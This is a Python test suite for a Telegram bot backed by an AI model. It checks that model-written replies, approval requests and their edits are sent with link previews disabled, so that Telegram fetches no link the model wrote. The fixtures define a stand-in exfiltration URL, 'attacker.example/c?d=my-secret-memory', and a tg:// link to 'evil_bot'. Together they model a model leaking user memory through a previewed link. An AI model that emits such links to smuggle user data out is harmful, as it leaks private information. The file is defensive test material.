"""No silent link fetches, through the real state machine: every message the model's words produce (each chunk
of a long reply, the plain-text fallback, an approval request and its edit) is sent with link previews off,
so Telegram's servers fetch no link the model wrote; `LINK_PREVIEWS=true` turns them back on for replies only;
a `tg://` link stays text."""

from __future__ import annotations

from typing import Any

from support.stack import Stack

from stepwise_local.anthropic_server import text, tool_use

LEAK = "https://attacker.example/c?d=my-secret-memory"


def sent_to(stack: Stack, chat_id: int, method: str | None = None) -> list[dict[str, Any]]:
    """The params of every sendMessage and editMessageText call (or `method`'s) the fake Telegram accepted
    for the chat."""
    methods = (method,) if method else ("sendMessage", "editMessageText")
    return [
        call["params"]
        for call in stack.telegram.calls()
        if call["method"] in methods and call["params"].get("chat_id") == chat_id
    ]


def test_every_chunk_of_a_reply_is_sent_without_link_previews_and_a_tg_link_stays_text(stack: Stack) -> None:
    user = stack.new_user()
    long_answer = f"Read [this]({LEAK}) and [open the bot](tg://resolve?domain=evil_bot&start=x).\n\n" + (
        "More words. " * 500
    )
    stack.anthropic.script(text(long_answer))
    stack.telegram.reject_html_next()  # the first chunk falls back to plain text, which must say it too
    assert stack.say(user, "summarise what you know about me")["status"] == "SUCCEEDED"
    attempts = [
        attempt["params"]
        for attempt in stack.telegram.attempts("sendMessage")
        if attempt["params"]["chat_id"] == user
    ]
    assert len(attempts) == 3  # two chunks, the first twice: its HTML refused, then as plain text
    assert len(sent_to(stack, user)) == 2
    assert all(params["link_preview_options"] == {"is_disabled": True} for params in attempts)
    assert not any(stack.telegram.previews_links(params) for params in attempts)
    html = attempts[0]["text"]
    assert f'<a href="{LEAK}">this</a>' in html  # an https link stays a link, never previewed
    assert "open the bot (tg://resolve?domain=evil_bot&amp;start=x)" in html  # a tg:// one is text
    assert 'href="tg:' not in html


def test_an_approval_request_and_its_edit_show_no_link_preview(stack: Stack) -> None:
    user = stack.new_user()
    stack.anthropic.script(
        tool_use(("add_task", {"title": "read", "description": LEAK})),
        tool_use(("update_task", {"task_id": 1, "description": f"now {LEAK}"})),
        text("Done."),
    )
    name = stack.send(user, "add a task to read that, then change it")
    message = stack.buttons(user)
    assert LEAK in stack.telegram.text_of(message)
    stack.press(user, message, "Approve")
    assert stack.emulation.wait(name)["status"] == "SUCCEEDED"
    (request,) = [call for call in sent_to(stack, user, "sendMessage") if call.get("reply_markup")]
    (edit,) = sent_to(stack, user, "editMessageText")  # the decision shown, the buttons gone
    assert edit["message_id"] == message["message_id"]
    assert request["link_preview_options"] == edit["link_preview_options"] == {"is_disabled": True}
    assert all(call["link_preview_options"] == {"is_disabled": True} for call in sent_to(stack, user))


def test_link_previews_on_lets_replies_be_previewed_but_never_approvals(stack: Stack) -> None:
    user = stack.new_user()
    stack.emulation.config.env["LINK_PREVIEWS"] = "true"
    stack.anthropic.script(
        tool_use(("add_task", {"title": "read"})),
        tool_use(("delete_task", {"task_id": 1}), preface=f"See {LEAK}"),
        text(f"See {LEAK}"),
    )
    name = stack.send(user, "add a task, then delete it")
    message = stack.buttons(user)
    stack.press(user, message, "Approve")
    assert stack.emulation.wait(name)["status"] == "SUCCEEDED"
    (request,) = [call for call in sent_to(stack, user, "sendMessage") if call.get("reply_markup")]
    (edit,) = sent_to(stack, user, "editMessageText")
    assert request["link_preview_options"] == edit["link_preview_options"] == {"is_disabled": True}
    reply = sent_to(stack, user, "sendMessage")[-1]
    assert LEAK in reply["text"] and "link_preview_options" not in reply  # Telegram's default: previewed
    assert stack.telegram.previews_links(reply)
